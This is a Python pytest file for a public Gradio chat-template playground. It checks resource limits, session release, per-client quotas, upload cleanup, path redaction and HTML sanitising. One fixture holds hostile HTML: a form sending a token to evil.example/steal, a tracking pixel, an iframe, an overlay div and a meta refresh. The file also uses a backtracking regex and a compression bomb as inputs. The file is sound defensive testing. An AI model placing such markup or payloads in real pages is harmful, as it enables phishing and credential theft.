"""Issue 25: one client cannot fill or fake a public Space. In process: what a session may hold,
bounded answers, sessions released when idle or over a budget, work counted per client, temporary
files, descriptions and paths in messages. (The same attacks on a served app, with memory and disk
measured: tests/test_public_server.py; nothing compiled in the server: tests/test_server_routes.py.)"""

from __future__ import annotations

import base64
import json
import re
import tempfile
import threading
import time
import zlib
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest

from app import visitors
from app.case_panel import add_case, duplicate_case, show_case
from app.highlight import description_html
from app.page import restore_page
from app.request_limits import RequestLimits
from app.sources import take_uploads
from app.state import Session
from app.wiring import by_name
from app.workbench import edit_chat_template
from engine import limits, sandbox
from engine.budget import Held, to_release
from engine.cases import Case
from engine.clients import Gate, client_key
from engine.sandbox import Pool, SandboxBusy, SandboxTimeout, Worker
from engine.tokens import TokenizerFiles, load_tokenizer_files
from tests.sandbox_jobs import leave_a_file, nap
from tests.test_app_support import edited, refresh_with, session
from tests.token_support import tokenizer_files


def request(address: str = "203.0.113.7", page: str = "page-1", forwarded: str | None = None) -> SimpleNamespace:
    """What Gradio hands a handler as `gr.Request`: who asked, from where, for which page."""
    headers = {"x-forwarded-for": forwarded} if forwarded else {}
    return SimpleNamespace(username=None, client=SimpleNamespace(host=address), headers=headers, session_hash=page)


# ----- item 2: what one session may hold, and what it is answered ----------------------------------


def test_a_workspace_holds_a_bounded_number_of_cases() -> None:
    sess = session()
    for _ in range(limits.MAX_CASES + 5):
        out = add_case(**edited(sess))
    assert len(sess.workspace.cases) == limits.MAX_CASES
    assert f"over the {limits.MAX_CASES:,}" in out["case_description"]


def test_cases_each_within_their_limit_cannot_add_up_past_the_budget() -> None:
    sess = session()
    big = json.dumps([{"role": "user", "content": "x" * 900_000}])
    refresh_with(sess, messages=big)  # one case of 900k characters: within the case limit
    assert len(sess.workspace.case.messages[0]["content"]) == 900_000
    for _ in range(4):
        out = duplicate_case(**edited(sess))
    assert sum(len(c.messages[0]["content"]) == 900_000 for c in sess.workspace.cases) == 3  # the 4th did not fit
    assert "one session may hold" in out["case_description"]


def test_an_editor_text_over_its_limit_is_not_kept() -> None:
    sess = session()
    before = sess.workspace.chat_template
    out = edit_chat_template(sess, "{# x #}" * (limits.MAX_CHAT_TEMPLATE_CHARS // 7 + 1), False)
    assert sess.workspace.chat_template == before  # the last text within the limit
    assert "did not keep it" in out["chat_diagnostics"] and "<|im_start|>" in out["prompt"] or "im_start" in out["prompt"]


def test_a_huge_prompt_with_visible_whitespace_gets_a_bounded_answer() -> None:
    sess = session()
    out = refresh_with(sess, chat='{{ " " * 3999000 }}', show_ws=True)
    assert "3,999,000 characters" in out["prompt"]
    assert len(out["prompt"]) < 1_000_000  # it was 128 MB


def test_a_share_link_that_inflates_to_a_million_messages_is_refused_briefly(monkeypatch: pytest.MonkeyPatch) -> None:
    # The budget refuses it (1-2 s here); on a machine saturated by a parallel test run the worker's
    # 10 s could run out first and refuse it for its time instead: not the refusal under test.
    monkeypatch.setitem(sandbox.bounded_if_large.__kwdefaults__, "timeout", 60)
    state = {"v": 1, "chat_template": "{{ messages }}", "cases": [{"name": "a", "messages": [{}] * 1_300_000}]}
    code = base64.urlsafe_b64encode(zlib.compress(json.dumps(state).encode(), 9)).decode().rstrip("=")
    assert len(code) < 10_000
    out = restore_page(Session.empty(), json.dumps({"hash": "#s=" + code, "saved": None}))
    assert "cannot be opened" in out["status"] and "one session may hold" in out["status"]
    assert sum(len(v) for v in out.values() if isinstance(v, str)) < 200_000  # it was 198 MB of diagnostics


def test_a_case_with_many_malformed_messages_gets_a_summary() -> None:
    sess = session()
    out = refresh_with(sess, messages=json.dumps([{}] * 5_000))
    assert out["case_diagnostics"].count('class="diag error"') == limits.MAX_DIAGNOSTICS
    assert f"and {5_000 - limits.MAX_DIAGNOSTICS + 1:,} more messages like these" in out["case_diagnostics"]


# ----- item 2: sessions released when idle, or over a budget; the page told to reload -----------------


def echo(session: Session) -> dict:
    return {"out": session.workspace.chat_template[:10]}


def test_an_idle_session_is_released_with_gradio_s_copy_and_its_page_is_told_to_reload(monkeypatch) -> None:
    forgotten: list[str] = []
    monkeypatch.setattr(visitors, "forget_page", forgotten.append)
    call = by_name(echo, ["session"], {"out": gr.HTML(render=False)})
    sess = session()
    call(sess, playground_request=request(page="idle-page"))
    assert sess.client == "address:203.0.113.7" and sess.page == "idle-page" and sess.held > 0
    sess.last_used -= limits.IDLE_SECONDS + 1
    assert visitors.sweep() >= 1
    assert sess.released and not sess.workspace.cases and forgotten == ["idle-page"]
    with pytest.raises(gr.Error, match="Reload the page"):
        call(sess, playground_request=request(page="idle-page"))
    # Gradio starts that page over with a fresh session: it is told to reload too (not the default preset).
    with pytest.raises(gr.Error, match="Reload the page"):
        call(session(), playground_request=request(page="idle-page"))


def test_budgets_release_the_longest_idle_sessions_first() -> None:
    sessions = [Held("a1", "a", 300, idle=50), Held("a2", "a", 300, idle=10), Held("b1", "b", 100, idle=99),
                Held("c1", "c", 100, idle=5, busy=True), Held("d1", "d", 10, idle=2000)]
    # Idle past the limit: d1. Client a over 400: its longest idle (a1). Then the server over 250: b1 (c1 is busy).
    assert to_release(sessions, idle_seconds=1000, client_bytes=400, total_bytes=450) == ["d1", "a1", "b1"]
    assert to_release(sessions, idle_seconds=1000, client_bytes=10_000, total_bytes=10_000) == ["d1"]


def test_a_client_past_its_budget_loses_its_own_longest_idle_sessions(monkeypatch) -> None:
    monkeypatch.setattr(visitors, "forget_page", lambda page: None)
    call = by_name(echo, ["session"], {"out": gr.HTML(render=False)})
    mine = [session() for _ in range(3)]
    other = session()
    call(other, playground_request=request("198.51.100.1", page="other"))
    for i, sess in enumerate(mine):
        sess.workspace.cases.append(Case(f"big {i}", [{"role": "user", "content": "x" * 400_000}]))
        call(sess, playground_request=request(page=f"mine-{i}"))
        time.sleep(0.01)
    monkeypatch.setattr(limits, "CLIENT_BYTES", 1_000_000)
    call(mine[2], playground_request=request(page="mine-2"))
    assert mine[0].released and not mine[1].released and not mine[2].released and not other.released


# ----- item 3: work counted per client -----------------------------------------------------------


def test_a_client_is_its_signed_in_user_else_its_address_and_a_forged_header_counts_for_nothing() -> None:
    assert client_key("alice", "10.0.0.1", "1.2.3.4", hops=1) == "user:alice"
    assert client_key(None, "203.0.113.7", "1.2.3.4", hops=0) == "address:203.0.113.7"  # not behind a proxy
    # Behind one proxy: the entry it appended (the client's own entries come first, and are ignored).
    assert client_key(None, "10.0.0.1", "6.6.6.6, 203.0.113.7", hops=1) == "address:203.0.113.7"
    assert client_key(None, "2001:db8::1", None, hops=0) == client_key(None, "2001:db8::ffff:2", None, hops=0)
    assert client_key(None, "::ffff:203.0.113.7", None, hops=0) == "address:203.0.113.7"


def test_one_client_has_a_bounded_number_of_requests_running_whatever_its_sessions() -> None:
    gate = Gate(limit=2)
    release = threading.Event()

    def hold() -> None:
        with gate.entered("address:attacker"):
            release.wait(10)

    holders = [threading.Thread(target=hold) for _ in range(2)]
    for thread in holders:
        thread.start()
    time.sleep(0.1)
    with pytest.raises(Exception, match="already running"):
        with gate.entered("address:attacker"):
            pass
    with gate.entered("address:visitor"):  # someone else is served
        assert gate.running("address:visitor") == 1
    release.set()
    for thread in holders:
        thread.join()


@pytest.fixture
def pool():
    pool = Pool(size=1, max_size=3, reserved=1)
    yield pool
    for worker in pool._idle:
        worker.stop()


def in_background(function, *args, **kwargs):
    out: dict = {}
    thread = threading.Thread(target=lambda: out.update(value=function(*args, **kwargs)), daemon=True)
    thread.start()
    return thread, out


def test_long_work_shares_the_pool_and_never_takes_the_places_kept_for_renders(pool: Pool) -> None:
    """Two clients' checks run at once (not two for the whole server), a third waits, and a render
    still finds a worker; one client runs one render and one check at a time."""
    first, _ = in_background(pool.call, nap, {"seconds": 1.5}, 30, "address:a", long=True)
    second, _ = in_background(pool.call, nap, {"seconds": 1.5}, 30, "address:b", long=True)
    time.sleep(0.5)
    assert pool.stats()["long"] == 2
    with pytest.raises(SandboxBusy, match="long work"):
        pool.call(nap, {"seconds": 0}, 0.3, "address:c", long=True)
    assert pool.call(nap, {"seconds": 0}, 30, "address:a")  # a's render, beside a's check
    with pytest.raises(SandboxBusy, match="previous long request"):  # a's second check: answered at once
        pool.call(nap, {"seconds": 0}, 30, "address:a", long=True)
    first.join()
    second.join()


def test_one_client_s_sessions_share_one_regex_allowance_and_cannot_spend_it_at_once() -> None:
    """45 sessions of one client, each parsing with a backtracking pattern, used to spend the client's
    allowance once each, in parallel: a call now reserves what it may use before it starts."""
    from engine.regex_bounds import RegexAllowance, RegexTimeout
    from engine.regex_bounds import compile as bounded_compile

    allowance, pattern, text = RegexAllowance(seconds=3), bounded_compile(r"(a+)+$"), "a" * 5000 + "!"

    def parse() -> float:
        started = time.monotonic()
        with allowance.active(), pytest.raises(RegexTimeout):
            pattern.search(text)
        return time.monotonic() - started

    first, out = in_background(parse)
    time.sleep(0.3)
    assert parse() < 1.0  # the other session of the same client finds nothing left (it had 3 s)
    first.join()
    assert out["value"] >= 2.0


# ----- item 4: temporary files -------------------------------------------------------------------


def test_uploads_are_deleted_once_read(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
    upload = tmp_path / "abc123" / "chat_template.jinja"
    upload.parent.mkdir()
    upload.write_text("{{ messages }}")
    elsewhere = tmp_path.parent / f"{tmp_path.name}-kept.jinja"
    elsewhere.write_text("x")
    assert take_uploads([str(upload), str(elsewhere)]) == {"chat_template.jinja": b"{{ messages }}", elsewhere.name: b"x"}
    assert not upload.exists() and elsewhere.exists()  # only Gradio's upload folder is cleaned
    elsewhere.unlink()


def test_a_worker_killed_mid_work_leaves_no_file_behind() -> None:
    worker = Worker()
    try:
        with pytest.raises(SandboxTimeout):
            worker.call(leave_a_file, {"seconds": 5}, 2.0)
    finally:
        worker.stop()
    assert not list(Path(tempfile.gettempdir()).glob("left-behind-*"))
    assert not list(Path(tempfile.gettempdir()).glob("playground-worker-*/left-behind-*"))


async def _post(app, path: str, length: int, address: str = "203.0.113.9", body: bytes = b"") -> int:
    sent: list[dict] = []

    async def receive() -> dict:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": path, "client": (address, 1),
             "headers": [(b"content-length", str(length).encode())]}
    await app(scope, receive, send)
    return sent[0]["status"]


def _run(call) -> int:
    """`asyncio.run(call)` in a thread of its own: the browser tests' Playwright keeps an event loop
    running in the main thread for the whole session, and `asyncio.run` refuses to start beside it."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as thread:
        return thread.submit(asyncio.run, call).result()


def test_requests_over_their_size_and_uploads_past_a_client_s_quota_are_refused_before_they_are_read() -> None:
    async def ok(scope, receive, send) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    app = RequestLimits(ok)
    run = _run
    assert run(_post(app, "/gradio_api/queue/join", 1000)) == 200
    assert run(_post(app, "/gradio_api/queue/join", limits.MAX_REQUEST_BYTES + 1)) == 413  # a 40 MB "template"
    statuses = [run(_post(app, "/gradio_api/upload", 40_000_000, "203.0.113.50")) for _ in range(6)]
    assert statuses[:5] == [200] * 5 and statuses[5] == 429  # 200 MB per client, then refused
    assert run(_post(app, "/gradio_api/upload", 40_000_000, "203.0.113.51")) == 200  # another client


def test_one_client_starts_a_bounded_number_of_sessions_a_minute() -> None:
    """Gradio spends ~0.1 s of CPU setting up each new session: 45 a second took the whole server."""
    async def ok(scope, receive, send) -> None:
        assert (await receive())["body"].startswith(b'{"data"')  # the body is handed on whole
        await send({"type": "http.response.start", "status": 200, "headers": []})

    def join(address: str, page: str) -> int:
        body = b'{"data": [1], "fn_index": 3, "session_hash": "' + page.encode() + b'"}'
        return _run(_post(RequestLimits(ok), "/gradio_api/queue/join", len(body), address, body))

    allowed = int(limits.CLIENT_NEW_SESSIONS)
    statuses = [join("203.0.113.60", f"page-{i}") for i in range(allowed + 3)]
    assert statuses == [200] * allowed + [429] * 3
    assert join("203.0.113.60", "page-0") == 200  # a session it has is not a new one
    assert join("203.0.113.61", "page-x") == 200  # nor is anyone else held back


# ----- items 5 and 6: descriptions are text; paths are redacted ---------------------------------------


def test_a_shared_description_cannot_dress_the_page() -> None:
    hostile = ('Read this <form action="https://evil.example/steal"><input name="token" placeholder="Paste your token">'
               '</form> <img src="https://evil.example/pixel.png"> ![x](https://evil.example/y.png) '
               '<div style="position:fixed;inset:0">cover</div> <iframe src="https://evil.example"></iframe> '
               '<meta http-equiv="refresh" content="0;url=https://evil.example"> [docs](https://evil.example/login) `<think>`')
    out = show_case(session(cases=[Case("shared", [{"role": "user", "content": "hi"}], description=hostile)],
                            case_name="shared").workspace)["case_description"]
    for tag in ("<form", "<input", "<img", "<iframe", "<meta", "<div style"):
        assert tag not in out
    assert not re.search(r"<[^>]*style=", out)
    assert '<a href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow">docs ' \
           "(https://evil.example/login)</a>" in out  # a link shows where it goes
    assert "<code>&lt;think&gt;</code>" in out and description_html("") == ""


def test_a_tokenizer_config_with_auto_map_does_not_show_the_server_s_paths() -> None:
    files = tokenizer_files(("<|im_start|>",))
    config = {**json.loads(files.config), "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]},
              "tokenizer_class": "XTokenizer"}
    loaded, problems = load_tokenizer_files(TokenizerFiles(files.tokenizer_json, json.dumps(config).encode(), None, "up"),
                                            timeout=30)
    assert loaded is not None and problems
    text = " ".join(p.message for p in problems)
    assert "custom code" in text and f"{tempfile.gettempdir()}/" not in text and "playground-worker" not in text
